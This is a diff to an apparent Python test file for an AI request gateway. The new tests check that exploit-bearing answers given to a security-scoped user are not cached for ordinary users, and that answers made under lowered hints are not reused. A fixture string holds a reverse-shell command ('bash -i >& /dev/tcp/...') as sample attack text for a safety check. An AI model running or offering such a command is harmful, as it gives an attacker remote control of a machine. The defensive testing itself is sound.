@@ -8,7 +8,18 @@ from hypothesis import strategies as st
 
 from router.policy.sections.safety import MARKED, WITHHELD, OutputCheck
 from router.request.outgoing import MOST_HELD, Window
-from router.types import Delta, Domain, Outcome, Reason, ResponseFormat, Scope, Verdict
+from router.types import (
+    Delta,
+    Domain,
+    Hints,
+    Identity,
+    Outcome,
+    Reason,
+    ResponseFormat,
+    Sampling,
+    Scope,
+    Verdict,
+)
 from tests.kits.changed import replace
 from tests.kits.fakes import ALICE, Houses, ask
 from tests.kits.gateway_kit import THROUGH, UNSURE, deep, drain, low, mid
@@ -203,11 +214,45 @@ async def test_json_gets_no_disclaimer(houses: Houses) -> None:
     assert outcome.answer.text == '{"a": 1}'
 
 
+ATTACK = "Look for bash -i >& /dev/tcp/10.0.0.1/4444 in the log."
+DEFENDER = replace(ALICE, scopes=ALICE.scopes | {Scope.SECURITY})
+
+
 async def test_defender_gets_code_of_an_attack(houses: Houses) -> None:
-    text = "Look for bash -i >& /dev/tcp/10.0.0.1/4444 in the log."
     safety = {"outputs": [{"check": "exploit"}]}
-    house = houses([low(), mid(text=text), deep()], signals=UNSURE, safety=safety)
-    defender = replace(ALICE, scopes=ALICE.scopes | {Scope.SECURITY})
-    outcome = await house.gateway.complete(ask(), defender)
+    house = houses([low(), mid(text=ATTACK), deep()], signals=UNSURE, safety=safety)
+    outcome = await house.gateway.complete(ask(), DEFENDER)
     assert outcome.answer is not None
-    assert outcome.answer.text == text
+    assert outcome.answer.text == ATTACK
+
+
+async def test_what_a_defender_got_is_no_cached_answer_for_others(houses: Houses) -> None:
+    safety = {"outputs": [{"check": "exploit"}]}
+    house = houses([low(), mid(text=ATTACK), deep()], signals=UNSURE, safety=safety)
+    request = ask(sampling=Sampling(temperature=0.0))
+    found = []
+    for who in (DEFENDER, ALICE, DEFENDER):
+        outcome = await house.gateway.complete(request, who)
+        assert outcome.answer is not None
+        found.append((outcome.cache, ATTACK in outcome.answer.text))
+        await house.gateway.drain()
+    assert found == [("miss", True), ("miss", False), ("exact", True)]
+
+
+@pytest.mark.parametrize(
+    ("hints", "cache"),
+    [
+        (Hints(stakes_nano_usd=1), "miss"),
+        (Hints(max_tier=2), "miss"),
+        (Hints(), "exact"),
+    ],
+)
+async def test_an_answer_of_lowered_hints_is_not_kept_for_others(
+    houses: Houses, hints: Hints, cache: str
+) -> None:
+    house = houses([low(), mid(), deep()], signals=UNSURE)
+    request = ask(sampling=Sampling(temperature=0.0), hints=hints)
+    lowering: Identity = replace(ALICE, scopes=ALICE.scopes | {Scope.HINTS_LOWER})
+    await house.gateway.complete(request, lowering)
+    await house.gateway.drain()
+    assert (await house.gateway.complete(request, ALICE)).cache == cache
